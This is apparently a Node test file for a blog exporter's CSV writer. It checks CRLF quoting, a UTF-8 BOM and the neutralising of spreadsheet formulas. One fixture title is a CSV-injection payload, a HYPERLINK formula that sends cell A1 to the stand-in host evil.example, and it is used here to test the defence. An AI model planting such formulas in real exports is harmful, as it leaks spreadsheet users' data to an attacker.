import { test } from 'node:test';
import assert from 'node:assert/strict';
import { CSV_COLUMNS, neutraliseFormula, toCsv, toCsvText } from '../../src/exporters/csv.ts';
import { post, term } from './records.ts';

/** A small RFC 4180 reader, written here from the RFC so the test does not trust the writer. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { cell += '"'; i += 2; continue; }
      if (c === '"') { quoted = false; i++; continue; }
      cell += c; i++; continue;
    }
    if (c === '"' && cell === '') { quoted = true; i++; continue; }
    if (c === ',') { row.push(cell); cell = ''; i++; continue; }
    if (c === '\r' && text[i + 1] === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; i += 2; continue; }
    assert.ok(c !== '\n' && c !== '\r', `bare line break outside quotes at ${i}`);
    cell += c; i++;
  }
  assert.equal(cell, '', 'the last record ends with CRLF');
  return rows;
}

const hostile = post({
  slug: 'farlig',
  title: '=HYPERLINK("http://evil.example/?"&A1,"Klicka")',
  excerpt: 'Rad ett, "citat"\nrad två\r\nrad tre',
  categories: [term('innovation', '+Plus', 'plus'), term('innovation', 'EU', 'eu')],
  author: { name: '@admin', slug: null, url: null },
  commentCount: null,
});
const plain = post({ slug: 'a-forsta', title: 'Åsikter om ö och ä – ”citat”', commentCount: 4 });

test('CSV: BOM, header, one CRLF row per post sorted by URL, every field back exactly (formulas neutralised)', () => {
  const text = toCsvText([hostile, plain]);
  assert.ok(text.startsWith('\uFEFF'), 'UTF-8 BOM for Excel');
  const rows = parseCsv(text.slice(1));
  assert.deepEqual(rows[0], [...CSV_COLUMNS]);
  assert.equal(rows.length, 3);
  assert.deepEqual(rows[1], [plain.url, plain.title, '2013-06-05', 'Anna Andersson', 'Om innovation', '4', plain.excerpt, '', 'post']);
  assert.deepEqual(rows[2], [hostile.url, `'${hostile.title}`, '2013-06-05', "'@admin", "'+Plus | EU", '', hostile.excerpt, '', 'post']);
  assert.equal(toCsv([plain]).path, 'posts.csv');
  assert.equal(Buffer.from(toCsvText([plain]), 'utf8').subarray(0, 3).toString('hex'), 'efbbbf');
});

test('formula neutralising covers = + - @ tab and CR, and nothing else', () => {
  for (const c of ['=1+1', '+46 8 405 10 00', '-2', '@SUM(A1)', '\tx', '\rx']) assert.equal(neutraliseFormula(c), `'${c}`);
  for (const c of ['1+1', 'Titel = bra', "'quoted", '', 'http://a/?x=-1']) assert.equal(neutraliseFormula(c), c);
});

test('no posts still gives the header', () => {
  assert.equal(toCsvText([]), `\uFEFF${CSV_COLUMNS.join(',')}\r\n`);
});
